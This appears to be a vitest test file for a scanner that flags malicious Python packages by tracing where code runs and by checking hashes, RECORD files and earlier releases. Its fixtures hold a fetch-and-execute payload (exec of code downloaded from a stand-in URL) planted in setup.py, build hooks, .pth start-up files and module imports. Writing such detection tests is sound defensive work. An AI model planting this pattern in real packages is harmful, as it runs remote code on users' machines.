import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import type { Inspection } from '../../../server/src/inspect/inspection.ts';
import {
  look,
  lookIntoSdist,
  lookIntoWheel,
  noContext,
  sdistBytes,
  wheelBytes,
} from '../../support/inspecting.ts';

const url = 'https://example.invalid/x';
const fetchAndRun = `import requests\nexec(requests.get('${url}').text)\n`;

/** `rule file when` of what carries a verdict. */
function strong({ evidence }: Inspection): string[] {
  return evidence
    .filter(({ weight }) => weight >= 0.5)
    .map(({ rule, file, when }) => `${rule} ${file} ${when}`);
}

function limits({ limits: found }: Inspection): string[] {
  return found.map(({ what, why }) => `${why}: ${what}`);
}

describe('who runs the code decides what it weighs', () => {
  test('in setup.py of an sdist it runs at install', async () => {
    const inspection = await lookIntoSdist({ 'setup.py': fetchAndRun });
    expect(strong(inspection)).toContain('download-exec acme-1.0/setup.py install');
    expect(inspection.verdict).toBe('malicious');
  });

  test('in an in-tree build backend too, in the hooks that builders call', async () => {
    const inspection = await lookIntoSdist({
      'pyproject.toml': '[build-system]\nbuild-backend = "own"\nbackend-path = ["build"]\n',
      'build/own.py': `import requests\ndef build_wheel(d, *a):\n    exec(requests.get('${url}').text)\n`,
    });
    expect(strong(inspection)).toContain('download-exec acme-1.0/build/own.py install');
  });

  test('in a start-up file whenever Python starts, on its own line', async () => {
    const inspection = await lookIntoWheel({
      'acme.pth': `/opt/acme\nimport requests; exec(requests.get('${url}').text)\n`,
      'acme/__init__.py': '',
    });
    const chain = inspection.evidence.find(({ rule }) => rule === 'download-exec');
    expect(chain).toMatchObject({ file: 'acme.pth', line: 1, when: 'start-up' });
    expect(inspection.verdict).toBe('malicious');
  });

  test('at module level when it is imported', async () => {
    const inspection = await lookIntoWheel({ 'acme/__init__.py': fetchAndRun });
    expect(strong(inspection)).toContain('download-exec acme/__init__.py import');
  });

  test('in a test only when somebody runs that', async () => {
    const inspection = await lookIntoSdist({ 'setup.py': '', 'tests/test_x.py': fetchAndRun });
    expect(inspection.verdict).not.toBe('malicious');
  });
});

describe('files are tied together', () => {
  const loader = `import requests\ndef start():\n    exec(requests.get('${url}').text)\n`;

  test('a function is called by code that has no word that reaches outside', async () => {
    const inspection = await lookIntoWheel({
      'acme/loader.py': loader,
      'acme/__init__.py': 'from .loader import start\nstart()\n',
    });
    expect(strong(inspection)).toContain('download-exec acme/loader.py import');
    expect(inspection.verdict).toBe('malicious');
    expect(inspection.pythonFiles).toBe(2);
  });

  test('through a third file that has none either', async () => {
    const inspection = await lookIntoWheel({
      'acme/loader.py': loader,
      'acme/core.py': 'from . import loader\ndef boot():\n    loader.start()\n',
      'acme/__init__.py': 'from .core import boot\nboot()\n',
    });
    expect(inspection.verdict).toBe('malicious');
  });

  test('what nobody calls stays what it is', async () => {
    const inspection = await lookIntoWheel({
      'acme/loader.py': loader,
      'acme/__init__.py': 'from .loader import start\n',
    });
    expect(inspection.verdict).not.toBe('malicious');
  });
});

describe('what was not read is told', () => {
  test('files without a word that reaches outside in one line', async () => {
    const inspection = await lookIntoWheel({
      'acme/__init__.py': 'x = 1\n',
      'acme/a.py': 'y = 2\n',
      'acme/b.py': 'import subprocess\n',
    });
    expect(limits(inspection)).toEqual(['skimmed: 2 Python files']);
    expect(inspection).toMatchObject({ verdict: 'clean', pythonFiles: 1, members: 4 });
  });

  test('tests whose functions nothing enters', async () => {
    const load = 'import requests\ndef load(x):\n  exec(requests.get(x).text)\n';
    const alone = await lookIntoWheel({
      'acme/__init__.py': 'import subprocess\n',
      'acme/tests/a.py': load,
      'acme/tests/b.py': `${load}load("https://files.example.invalid/x")\n`,
    });
    expect(limits(alone)).toEqual(['not-entered: 2 Python files']);
    // What their own module level calls is followed all the same.
    expect(alone.evidence.map(({ file, when }) => [file, when])).toEqual([['acme/tests/b.py', 'called']]);
    const entered = await lookIntoWheel({
      'acme/__init__.py':
        'import subprocess\nfrom .tests.a import load\nload("https://files.example.invalid/x")\n',
      'acme/tests/a.py': load,
    });
    expect(entered).toMatchObject({ verdict: 'malicious', limits: [] });
  });

  test('compiled files by their number', async () => {
    const inspection = await lookIntoWheel({
      'acme/__init__.py': 'import ctypes\n',
      'acme/_a.so': '\x7fELF',
      'acme/_b.cpython-312-x86_64-linux-gnu.so': '\x7fELF',
    });
    expect(limits(inspection)).toEqual(['compiled: 2 compiled files']);
  });

  test('archives within, but for wheels, by name', async () => {
    const inspection = await lookIntoSdist({ 'setup.py': '', 'data/more.zip': 'PK' });
    expect(limits(inspection)).toEqual(['nested: acme-1.0/data/more.zip']);
  });

  test('what no time was left for', async () => {
    const bytes = wheelBytes({ 'acme/__init__.py': 'import os\nos.system("x")\n' });
    const job = { kind: 'archive' as const, file: 'acme-1.0-py3-none-any.whl', bytes, context: noContext };
    const inspection = await look(job, 0);
    expect(inspection.verdict).toBe('not-inspected');
    expect(inspection.limits.map(({ why }) => why)).toContain('too-long');
  });

  test('a file that hides what it is written in', async () => {
    const inspection = await lookIntoWheel({ 'acme/__init__.py': '# coding: utf-7\nx = 1\n' });
    expect(strong(inspection)).toEqual(['odd-coding acme/__init__.py import']);
    expect(limits(inspection)).toContain('unsupported: acme/__init__.py');
  });
});

describe('a wheel within an sdist', () => {
  const inner = wheelBytes({ 'other/__init__.py': fetchAndRun }, 'other-1.0');

  test('is looked into, as code that somebody has to call', async () => {
    const inspection = await lookIntoSdist({ 'setup.py': '', 'vendor/other-1.0-py3-none-any.whl': inner });
    const place = 'acme-1.0/vendor/other-1.0-py3-none-any.whl!/other/__init__.py';
    expect(inspection.evidence.map(({ file }) => file)).toContain(place);
    expect(inspection.verdict).not.toBe('malicious');
  });

  test('is not looked into two levels deep', async () => {
    const middle = wheelBytes({ 'vendor/other-1.0-py3-none-any.whl': inner }, 'middle-1.0');
    const inspection = await lookIntoSdist({ 'setup.py': '', 'middle-1.0-py3-none-any.whl': middle });
    expect(limits(inspection)).toEqual([
      'nested: acme-1.0/middle-1.0-py3-none-any.whl!/vendor/other-1.0-py3-none-any.whl',
    ]);
    expect(inspection.evidence).toEqual([]);
  });
});

describe('the hash', () => {
  const bytes = wheelBytes({ 'acme/__init__.py': '' });
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  const withHash = (promised: string | null) =>
    look({
      kind: 'archive',
      file: 'acme-1.0-py3-none-any.whl',
      bytes,
      context: { ...noContext, sha256: promised },
    });

  test('that the index told is checked', async () => {
    expect(await withHash(sha256.toUpperCase())).toMatchObject({
      sha256,
      integrity: 'verified',
      verdict: 'clean',
    });
  });

  test('that it did not tell cannot be', async () => {
    expect(await withHash(null)).toMatchObject({ sha256, integrity: 'unverified', verdict: 'clean' });
  });

  test('that is another one makes the file suspicious, not malicious', async () => {
    const inspection = await withHash('0'.repeat(64));
    expect(inspection).toMatchObject({ sha256, integrity: 'unverified', verdict: 'suspicious' });
    expect(strong(inspection)).toEqual(['archive-hash null null']);
  });
});

describe('a wheel is held against its RECORD', () => {
  test('a file that it does not list is told', async () => {
    const record = { 'acme-1.0.dist-info/RECORD': 'acme/__init__.py,,\nacme-1.0.dist-info/RECORD,,\n' };
    const inspection = await lookIntoWheel({ ...record, 'acme/__init__.py': '', 'acme/extra.py': '' });
    expect(strong(inspection)).toEqual(['archive-record acme/extra.py null']);
  });

  test('one that lists all is quiet', async () => {
    expect((await lookIntoWheel({ 'acme/__init__.py': '', 'acme/a,b.txt': 'x' })).evidence).toEqual([]);
  });
});

describe('comparison', () => {
  const quiet = { 'acme/__init__.py': 'import os\nx = os.name\nopen\n' };
  const loud = { 'acme/__init__.py': `import urllib.request\nurllib.request.urlopen('${url}')\n` };

  test('with the release before: what runs by itself and reaches outside is new', async () => {
    const { profile } = await lookIntoWheel(quiet);
    const before = { what: 'acme 0.9', relation: 'earlier' as const, profile };
    expect(strong(await lookIntoWheel(loud, { before }))).toEqual(['new-behaviour acme/__init__.py import']);
  });

  test('with a release that did the same: nothing is', async () => {
    const { profile } = await lookIntoWheel(loud);
    expect(profile).toEqual(['import|network|urllib.request.urlopen|acme/__init__.py|']);
    const before = { what: 'acme 0.9', relation: 'earlier' as const, profile };
    expect(strong(await lookIntoWheel(loud, { before }))).toEqual([]);
  });

  test('of a wheel with the sdist of the same release, whose files lie elsewhere', async () => {
    const same = await lookIntoSdist({ 'setup.py': '', 'src/acme/__init__.py': loud['acme/__init__.py'] });
    const other = await lookIntoSdist({ 'setup.py': '', 'src/acme/__init__.py': quiet['acme/__init__.py'] });
    const told = async ({ profile }: Inspection) =>
      strong(
        await lookIntoWheel(loud, { before: { what: 'acme-1.0.tar.gz', relation: 'sibling', profile } }),
      );
    expect(await told(same)).toEqual([]);
    expect(await told(other)).toEqual(['wheel-differs acme/__init__.py import']);
  });
});

describe('what is no archive', () => {
  test('a lone Python file runs when it is imported', async () => {
    const bytes = Buffer.from(fetchAndRun);
    const inspection = await look({ kind: 'file', file: 'payload.py', bytes, context: noContext });
    expect(strong(inspection)).toContain('download-exec payload.py import');
    expect(inspection).toMatchObject({ members: 1, pythonFiles: 1, verdict: 'malicious' });
  });

  test('a tree is read file by file, setup.py at its top runs at install', async () => {
    const contents: Record<string, string> = { 'setup.py': fetchAndRun, 'a/__init__.py': '', 'b.txt': 'x' };
    const asked: string[] = [];
    const inspection = await look({
      kind: 'tree',
      file: 'acme',
      names: [...Object.keys(contents), 'gone.py'],
      context: noContext,
      read: async (name) => {
        asked.push(name);
        const content = contents[name];
        return content === undefined ? null : Buffer.from(content);
      },
    });
    expect(strong(inspection)).toContain('download-exec setup.py install');
    expect(limits(inspection)).toContain('broken: gone.py');
    expect(inspection.sha256).toBeNull();
    expect(asked).toContain('a/__init__.py');
  });

  test('bytes that are nothing are not inspected', async () => {
    const bytes = Buffer.from('not an archive');
    const job = { kind: 'archive' as const, file: 'acme-1.0.tar.gz', bytes, context: noContext };
    const inspection = await look(job);
    expect(inspection.evidence.every(({ rule }) => rule.startsWith('archive-'))).toBe(true);
    expect(inspection).toMatchObject({ members: 0, pythonFiles: 0 });
    expect(inspection.verdict).not.toBe('clean');
  });
});

test('the same bytes give the same answer', async () => {
  const bytes = sdistBytes({ 'setup.py': fetchAndRun, 'acme/__init__.py': fetchAndRun });
  const job = { kind: 'archive' as const, file: 'acme-1.0.tar.gz', bytes, context: noContext };
  expect(await look(job)).toEqual(await look(job));
});

test('an archive that takes too long is left where it is, and nothing is made of what was not read', async () => {
  const job = { kind: 'archive', file: 'acme-1.0.tar.gz', context: noContext } as const;
  const inspection = await look({ ...job, bytes: sdistBytes({ 'setup.py': fetchAndRun }) }, 0);
  expect(inspection.verdict).toBe('not-inspected');
  expect(limits(inspection)).toContain('too-long: what lies behind');
});
